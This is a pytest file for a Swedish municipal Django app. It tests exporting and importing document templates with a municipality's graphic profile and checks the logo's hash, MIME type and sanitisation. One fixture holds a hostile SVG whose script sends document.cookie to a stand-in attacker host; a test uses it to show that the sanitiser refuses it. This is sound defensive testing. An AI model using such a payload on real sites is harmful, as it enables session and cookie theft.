"""A kommun's grafisk profil in a mall file: exported with --med-profil, imported through the
admin's own checks, the logotyp only as the sanitiser rebuilds it.
"""

import base64
import hashlib
import io
import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from nameden import grafiskprofil, logotyp
from nameden.models import Kommun
from remiss import mallfil
from remiss.mallfil import Mallfilfel
from remiss.mallfil_import import mallfil_importera
from remiss.models import Dokumentmall
from tests.factories import ForvaltningFactory, KommunFactory

MALLAR = Path(__file__).resolve().parents[2] / "remiss" / "mallar"

pytestmark = pytest.mark.django_db

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">'
    b'<rect width="120" height="40" fill="#00558c"/>'
    b'<text x="8" y="26" fill="#ffffff" font-size="16">Upplands-Bro</text></svg>'
)
FIENTLIG_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    b"<script>fetch('https://angripare.example/'+document.cookie)</script></svg>"
)


@pytest.fixture
def kommun_med_profil(sof):
    """The Socialförvaltningen's kommun with a full profile: colours, footer, SVG logo."""
    kommun = sof.kommun
    kommun.namn = "Upplands-Bro kommun"
    kommun.organisationsnummer = "212000-0076"
    kommun.accentfarg, kommun.text_pa_accent = "#00558c", "#ffffff"
    kommun.postadress = "Upplands-Bro kommun, 196 81 Kungsängen"
    kommun.besoksadress = "Furuhällsplan 1, Kungsängen"
    kommun.telefon = "08-581 690 00"
    kommun.webb = "https://www.upplands-bro.se"
    kommun.epost = "kommun@upplands-bro.se"
    return grafiskprofil.kommun_spara(user=None, kommun=kommun, logotyp_ny=logotyp.sanera(SVG))


def _mall(namn: str, forvaltning) -> Dokumentmall:
    """The shipped Tjänsteskrivelse under `namn`, for `forvaltning` (None: every one)."""
    data = json.loads((MALLAR / "tjansteskrivelse.json").read_text("utf-8")) | {"namn": namn}
    mall = _importera(data, kommun=forvaltning.kommun if forvaltning else None).mall
    mall.forvaltning = forvaltning
    mall.save()
    return mall


@pytest.fixture
def mall(sof):
    return _mall("Tjänsteskrivelse med profil", sof)


def _exportera(mall, tmp_path, **kwargs) -> dict:
    fil = tmp_path / "ut.json"
    call_command(
        "mall_export", mall.namn, out=str(fil), med_profil=True, stdout=io.StringIO(), **kwargs
    )
    return json.loads(fil.read_text("utf-8"))


def _importera(data: dict, **kwargs):
    return mallfil_importera(data=mallfil.las(json.dumps(data, ensure_ascii=False)), **kwargs)


def _felen(data: dict, **kwargs) -> dict[str, str]:
    with pytest.raises(Mallfilfel) as fangat:
        _importera(data, **kwargs)
    return dict(fangat.value.fel)


def _med_logotyp(data: dict, bild: bytes, *, mime: str = "image/svg+xml") -> dict:
    data["profil"]["logotyp"] = {
        "mime": mime,
        "sha256": hashlib.sha256(bild).hexdigest(),
        "base64": base64.b64encode(bild).decode("ascii"),
    }
    return data


def test_med_profil_writes_the_kommuns_profile_with_the_logo_and_its_sha256(
    kommun_med_profil, mall, tmp_path
):
    data = _exportera(mall, tmp_path)

    profil = data["profil"]
    assert profil["namn"] == "Upplands-Bro kommun"
    assert profil["farger"] == {"accent": "#00558c", "text_pa_accent": "#ffffff"}
    assert profil["sidfot"]["besoksadress"] == "Furuhällsplan 1, Kungsängen"
    bild = base64.b64decode(profil["logotyp"]["base64"])
    assert hashlib.sha256(bild).hexdigest() == profil["logotyp"]["sha256"]
    assert bild == bytes(kommun_med_profil.logotyp)


def test_a_profile_imports_as_a_new_kommun_equal_to_the_exported_one(
    kommun_med_profil, mall, tmp_path
):
    """GIVEN a file exported with --med-profil WHEN it is imported under another kommun's
    name THEN that kommun is created with the same profile, logo byte for byte."""
    data = _exportera(mall, tmp_path)
    data["namn"] = "Kopia"
    data["profil"]["namn"] = "Exempelkommunen"

    resultat = _importera(data)

    ny = Kommun.objects.get(namn="Exempelkommunen")
    assert resultat.profil == "skapad"
    forvantat = grafiskprofil.profil_varde(kommun_med_profil) | {"namn": "Exempelkommunen"}
    assert grafiskprofil.profil_varde(ny) == forvantat
    assert ny.history.first().history_change_reason.startswith("Ny logotyp (image/svg+xml")
    kopia = Dokumentmall.objects.get(namn="Kopia")
    assert _exportera(kopia, tmp_path, kommun="Exempelkommunen") == data  # the round trip


def test_the_same_profile_again_changes_nothing(kommun_med_profil, mall, tmp_path):
    data = _exportera(mall, tmp_path)
    historik = kommun_med_profil.history.count()

    assert _importera(data, ersatt=True).profil == "oförändrad"
    assert kommun_med_profil.history.count() == historik


def test_another_profile_for_an_existing_kommun_needs_ersatt(kommun_med_profil, mall, tmp_path):
    data = _exportera(mall, tmp_path)
    data["namn"] = "Annan mall"
    data["profil"]["farger"]["accent"] = "#6b2c91"

    assert "Importera med --ersatt" in _felen(data)["profil"]
    kommun_med_profil.refresh_from_db()
    assert kommun_med_profil.accentfarg == "#00558c"

    assert _importera(data, ersatt=True).profil == "ersatt"
    kommun_med_profil.refresh_from_db()
    assert kommun_med_profil.accentfarg == "#6b2c91"


def _ny_profil(mall, tmp_path, kommun_med_profil) -> dict:
    data = _exportera(mall, tmp_path)
    data["namn"] = "Ny mall"
    data["profil"]["namn"] = "Ny kommun"
    return data


def test_a_hostile_svg_logo_is_refused_and_nothing_is_saved(kommun_med_profil, mall, tmp_path):
    """GIVEN a file whose logo is an SVG with a script and an onload handler, its SHA-256
    right WHEN imported THEN the sanitiser's refusal is reported under profil.logotyp, and
    neither the mall nor the kommun exists."""
    data = _med_logotyp(_ny_profil(mall, tmp_path, kommun_med_profil), FIENTLIG_SVG)

    fel = _felen(data)

    assert "<script>" in fel["profil.logotyp"] or "onload" in fel["profil.logotyp"]
    assert not Kommun.objects.filter(namn="Ny kommun").exists()
    assert not Dokumentmall.objects.filter(namn="Ny mall").exists()


def test_a_logo_that_is_no_image_whatever_its_mime_says_is_refused(
    kommun_med_profil, mall, tmp_path
):
    data = _med_logotyp(
        _ny_profil(mall, tmp_path, kommun_med_profil), b"MZ\x90\x00 not a png", mime="image/png"
    )
    assert "PNG- eller SVG-fil" in _felen(data)["profil.logotyp"]


def test_a_logo_whose_bytes_do_not_match_its_sha256_is_refused(kommun_med_profil, mall, tmp_path):
    data = _ny_profil(mall, tmp_path, kommun_med_profil)
    data["profil"]["logotyp"]["sha256"] = "0" * 64
    assert "skadad eller ändrad" in _felen(data)["profil.logotyp.sha256"]


def test_a_logo_declared_as_png_but_an_svg_is_refused(kommun_med_profil, mall, tmp_path):
    data = _med_logotyp(_ny_profil(mall, tmp_path, kommun_med_profil), SVG, mime="image/png")
    assert _felen(data)["profil.logotyp.mime"] == (
        "filen säger image/png, men logotypen är image/svg+xml."
    )


def test_an_organisationsnummer_with_a_wrong_check_digit_is_refused(
    kommun_med_profil, mall, tmp_path
):
    data = _ny_profil(mall, tmp_path, kommun_med_profil)
    data["profil"]["organisationsnummer"] = "212000-0077"
    assert "kontrollsiffran" in _felen(data)["profil.organisationsnummer"]


def test_a_colour_that_is_no_hex_colour_is_refused_by_the_schema(kommun_med_profil, mall, tmp_path):
    data = _ny_profil(mall, tmp_path, kommun_med_profil)
    data["profil"]["farger"]["accent"] = "blå"
    assert _felen(data)["profil.farger.accent"] == (
        "”blå” har fel form. Skriv färgen som #rrggbb, till exempel #0f4c81."
    )


def test_med_profil_needs_kommun_when_the_mall_has_none_and_there_are_several(
    kommun_med_profil, tmp_path
):
    KommunFactory(namn="Annan kommun", slug="annan")
    allman = _mall("Allmän mall", None)
    with pytest.raises(CommandError, match="--kommun NAMN"):
        _exportera(allman, tmp_path)
    assert _exportera(allman, tmp_path, kommun="Annan kommun")["profil"]["namn"] == "Annan kommun"


def test_a_mall_of_another_kommuns_forvaltning_exports_that_kommuns_profile(tmp_path):
    annan = KommunFactory(namn="Annan kommun", slug="annan")
    mall = _mall("Deras mall", ForvaltningFactory(kommun=annan))
    assert _exportera(mall, tmp_path)["profil"]["namn"] == "Annan kommun"


def test_mall_import_says_what_became_of_the_profile(kommun_med_profil, mall, tmp_path):
    data = _exportera(mall, tmp_path)
    data["namn"], data["profil"]["namn"] = "Tredje mallen", "Tredje kommunen"
    fil = tmp_path / "tredje.json"
    fil.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    ut = io.StringIO()

    call_command("mall_import", str(fil), stdout=ut)

    assert ut.getvalue().strip() == (
        "Skapade mallen ”Tredje mallen” (6 avsnitt). Kommunen med profilen skapades."
    )
